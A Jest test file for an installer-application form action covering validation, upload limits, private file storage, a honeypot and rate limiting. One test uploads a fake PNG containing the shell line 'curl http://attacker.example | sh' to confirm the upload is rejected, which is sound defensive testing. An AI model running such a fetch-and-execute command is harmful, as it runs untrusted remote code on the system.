import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { submitInstallerApplication } from '@/app/(site)/installers/join/actions';
import { GET as serveStorage } from '@/app/storage/[bucket]/[...key]/route';
import { RATE_LIMITED_MESSAGE } from '@/lib/errors';
import { APPLICATION_RATE_LIMIT } from '@/lib/installers/application';
import { clearOfWindowEnd } from '../fixtures/rate-limit-window';

const MB = 1024 * 1024;

// Local storage in a folder of this file's own; the environment is read on first use, after this line.
const storageDir = mkdtempSync(path.join(tmpdir(), 'installers-app-'));
process.env.STORAGE_DIR = storageDir;
delete process.env.NEXT_PUBLIC_SUPABASE_URL;
delete process.env.SMTP_URL;

const sql = () => globalThis.testDb.sql;

const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const PDF = Buffer.from('%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n');

const VALID: Record<string, string | string[]> = {
  businessName: 'Volt Electric',
  contactName: 'Ada Lovelace',
  email: 'ada@volt.example.com',
  phone: '(555) 010-0199',
  website: 'volt.example.com',
  states: ['California', 'Oregon'],
  installTypes: ['Residential', 'Commercial'],
  certifications: ['Qmerit', 'Licensed Electrician'],
  listingTier: 'featured',
  message: 'Level 2 installs and panel upgrades.',
};

function formData(
  fields: Record<string, string | string[] | undefined> = VALID,
  files: Record<string, File> = {},
) {
  const data = new FormData();
  for (const [name, value] of Object.entries(fields)) {
    if (value === undefined) continue;
    for (const item of Array.isArray(value) ? value : [value]) data.append(name, item);
  }
  for (const [name, file] of Object.entries(files)) data.append(name, file);
  // What a browser sends for the hidden field people never fill.
  if (!('fax' in fields)) data.append('fax', '');
  return data;
}

const file = (bytes: Buffer, name: string, type = '') => new File([new Uint8Array(bytes)], name, { type });

function storedFiles(dir = storageDir): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => path.relative(storageDir, path.join(entry.parentPath, entry.name)));
}

async function leads() {
  return sql()<
    {
      business_name: string;
      website: string;
      states: string[];
      install_types: string[];
      certifications: string[];
      listing_tier: string;
      message: string | null;
      logo_url: string | null;
      certification_proof_url: string | null;
      status: string;
      notification: string | null;
    }[]
  >`select * from ev_installer_leads order by id`;
}

let info: jest.SpyInstance;
beforeEach(async () => {
  await sql()`delete from ev_installer_leads`;
  await sql()`delete from rate_limits`;
  rmSync(storageDir, { recursive: true, force: true });
  info = jest.spyOn(console, 'info').mockImplementation(() => {});
  jest.spyOn(console, 'error').mockImplementation(() => {});
  jest.spyOn(console, 'warn').mockImplementation(() => {});
});
afterEach(() => jest.restoreAllMocks());
afterAll(() => rmSync(storageDir, { recursive: true, force: true }));

describe('installer application action', () => {
  it('stores a valid application as pending, with its files under random names, and logs the notification', async () => {
    const result = await submitInstallerApplication(
      formData(VALID, {
        logo: file(PNG, 'my logo.png', 'image/png'),
        certificationProof: file(PDF, 'licence.pdf'),
      }),
    );
    expect(result).toEqual({ ok: true, message: 'Your submission has been received!' });

    const [lead, ...others] = await leads();
    expect(others).toHaveLength(0);
    expect(lead).toMatchObject({
      business_name: 'Volt Electric',
      website: 'https://volt.example.com',
      states: ['California', 'Oregon'],
      install_types: ['Residential', 'Commercial'],
      certifications: ['Qmerit', 'Licensed Electrician'],
      listing_tier: 'featured',
      message: 'Level 2 installs and panel upgrades.',
      status: 'pending',
      notification: 'log',
    });
    expect(lead?.logo_url).toMatch(/^\/storage\/media\/installer-logos\/\d{13}-[0-9a-f-]{36}\.png$/);
    expect(lead?.certification_proof_url).toMatch(/^installer-certifications\/\d{13}-[0-9a-f-]{36}\.pdf$/);

    const files = storedFiles().sort();
    expect(files).toEqual(
      [
        `media/${lead?.logo_url?.replace('/storage/media/', '')}`,
        `private/${lead?.certification_proof_url}`,
      ].sort(),
    );
    expect(readFileSync(path.join(storageDir, 'private', lead!.certification_proof_url!))).toEqual(PDF);
    expect(info.mock.calls.join('\n')).toContain('New installer application: Volt Electric');

    // The logo is served publicly; the certification proof never is.
    const logoKey = lead!.logo_url!.replace('/storage/media/', '').split('/');
    const logo = await serveStorage(new Request('http://localhost/'), {
      params: Promise.resolve({ bucket: 'media', key: logoKey }),
    });
    expect(logo.status).toBe(200);
    expect(logo.headers.get('content-type')).toBe('image/png');
    const proof = await serveStorage(new Request('http://localhost/'), {
      params: Promise.resolve({ bucket: 'private', key: lead!.certification_proof_url!.split('/') }),
    });
    expect(proof.status).toBe(404);
  });

  it('stores an application without files, defaulting the tier to free', async () => {
    const result = await submitInstallerApplication(
      formData(
        { ...VALID, listingTier: undefined, certifications: undefined, message: '' },
        { logo: new File([], '') },
      ),
    );
    expect(result.ok).toBe(true);
    const [lead] = await leads();
    expect(lead).toMatchObject({
      listing_tier: 'free',
      certifications: [],
      message: null,
      logo_url: null,
      certification_proof_url: null,
    });
    expect(storedFiles()).toEqual([]);
  });

  it.each([
    ['businessName', '', 'Business name is required'],
    ['contactName', ' ', 'Contact name is required'],
    ['email', '', 'Email is required'],
    ['email', 'ada@volt', 'Please enter a valid email address'],
    ['phone', '', 'Phone number is required'],
    ['website', '', 'Website is required'],
    ['website', 'not a website', 'Please enter a valid website URL'],
    ['states', [], 'At least one state is required'],
    ['states', ['Narnia'], 'Please choose states from the list'],
    ['installTypes', [], 'At least one installation type is required'],
    ['installTypes', ['Industrial'], 'Please choose installation types from the list'],
    ['certifications', ['Self-taught'], 'Please choose certifications from the list'],
    ['listingTier', 'gold', 'Please choose a listing tier'],
  ] as const)('refuses %s = %j with "%s" and stores nothing', async (field, value, message) => {
    const result = await submitInstallerApplication(
      formData({ ...VALID, [field]: value as string | string[] }, { logo: file(PNG, 'logo.png') }),
    );
    expect(result).toMatchObject({ ok: false, fieldErrors: { [field]: message } });
    expect(await leads()).toHaveLength(0);
    expect(storedFiles()).toEqual([]);
  });

  it('refuses a logo of 2 MB + 1 byte and a proof of 5 MB + 1 byte', async () => {
    const logo = file(Buffer.concat([PNG, Buffer.alloc(2 * MB + 1 - PNG.length)]), 'logo.png', 'image/png');
    const proof = file(
      Buffer.concat([PDF, Buffer.alloc(5 * MB + 1 - PDF.length)]),
      'proof.pdf',
      'application/pdf',
    );
    const result = await submitInstallerApplication(formData(VALID, { logo, certificationProof: proof }));
    expect(result).toMatchObject({
      ok: false,
      fieldErrors: {
        logo: 'Logo is too large: PNG, JPG, GIF up to 2MB',
        certificationProof: 'Certification proof is too large: PDF, JPG, PNG up to 5MB',
      },
    });
    expect(await leads()).toHaveLength(0);
    expect(storedFiles()).toEqual([]);
  });

  it('accepts a logo of exactly 2 MB', async () => {
    const logo = file(Buffer.concat([PNG, Buffer.alloc(2 * MB - PNG.length)]), 'logo.png', 'image/png');
    expect((await submitInstallerApplication(formData(VALID, { logo }))).ok).toBe(true);
    expect(storedFiles()).toHaveLength(1);
  });

  it('refuses a .png that is really a script', async () => {
    const script = file(
      Buffer.from('#!/bin/sh\ncurl http://attacker.example | sh\n'),
      'logo.png',
      'image/png',
    );
    const result = await submitInstallerApplication(formData(VALID, { logo: script }));
    expect(result).toMatchObject({
      ok: false,
      fieldErrors: { logo: 'Logo must be a PNG, JPG or GIF image' },
    });
    expect(await leads()).toHaveLength(0);
    expect(storedFiles()).toEqual([]);
  });

  it('removes the uploaded files when the database refuses the row', async () => {
    // A real failure of the insert: a constraint this one business name breaks.
    await sql()`alter table ev_installer_leads add constraint test_refuse_insert check (business_name <> 'Broken Insert Co') not valid`;
    try {
      const result = await submitInstallerApplication(
        formData(
          { ...VALID, businessName: 'Broken Insert Co' },
          { logo: file(PNG, 'logo.png'), certificationProof: file(PDF, 'p.pdf') },
        ),
      );
      expect(result).toEqual({ ok: false, message: 'Failed to submit form. Please try again.' });
      expect(await leads()).toHaveLength(0);
      expect(storedFiles()).toEqual([]);
    } finally {
      await sql()`alter table ev_installer_leads drop constraint test_refuse_insert`;
    }
  });

  it('pretends success to a bot that fills the hidden field, and stores nothing', async () => {
    const result = await submitInstallerApplication(
      formData({ ...VALID, fax: '555-0100' }, { logo: file(PNG, 'logo.png') }),
    );
    expect(result.ok).toBe(true);
    expect(await leads()).toHaveLength(0);
    expect(storedFiles()).toEqual([]);
  });

  it('limits applications per client', async () => {
    await clearOfWindowEnd(APPLICATION_RATE_LIMIT.windowSeconds);
    for (let index = 0; index < APPLICATION_RATE_LIMIT.limit; index += 1) {
      expect(
        (await submitInstallerApplication(formData({ ...VALID, businessName: `Business ${index}` }))).ok,
      ).toBe(true);
    }
    const refused = await submitInstallerApplication(
      formData({ ...VALID, businessName: 'One Too Many' }, { logo: file(PNG, 'l.png') }),
    );
    expect(refused).toEqual({ ok: false, message: RATE_LIMITED_MESSAGE });
    expect(await leads()).toHaveLength(APPLICATION_RATE_LIMIT.limit);
    expect(storedFiles()).toEqual([]);
  });
});
